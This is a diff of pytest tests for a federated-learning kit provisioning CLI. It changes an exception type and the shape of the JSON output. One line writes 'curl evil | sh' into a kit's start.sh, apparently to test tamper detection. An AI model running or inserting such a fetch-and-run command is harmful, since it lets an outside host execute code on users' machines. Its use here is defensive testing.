@@ -469,7 +469,7 @@ def test_expired_kit_is_refused(ws: Path) -> None:
 
 
 def test_not_a_kit(tmp_path: Path) -> None:
-    with pytest.raises(KitError, match=r": no such kit folder$"):
+    with pytest.raises(NotFound, match=r": no such kit folder$"):  # exit 4, like any missing path
         verify_kit(tmp_path / "nope")
     with pytest.raises(KitError, match=r": not a fedctl kit \(no startup/ folder\)$"):
         verify_kit(tmp_path)
@@ -736,7 +736,7 @@ def test_cli_provision_then_grow(tmp_path: Path, capsys: pytest.CaptureFixture[s
     assert "CA       " in out and "(new)" in out
     assert "created   site   hospital-a" in out
     assert main(["provision", str(EXAMPLE), "-o", str(ws), "--json"]) == 0
-    data = json.loads(capsys.readouterr().out)
+    data = json.loads(capsys.readouterr().out)["result"]
     assert {k["status"] for k in data["kits"]} == {"unchanged"}
     assert main(["provision", "-o", str(ws), "--add-site", "hospital-d", "--org", "hd"]) == 0
     assert "hospital-d" in capsys.readouterr().out
@@ -778,7 +778,7 @@ def test_cli_cert_and_kit_commands(tmp_path: Path, capsys: pytest.CaptureFixture
     assert rc == 0
     capsys.readouterr()
     assert main(["kit", "verify", str(kit), "--json"]) == 0
-    info = json.loads(capsys.readouterr().out)
+    info = json.loads(capsys.readouterr().out)["result"]
     assert info["name"] == "hospital-x" and info["verified"] is True
     assert info["server"] == "fl.example.org:8002"
     (kit / "startup" / "start.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
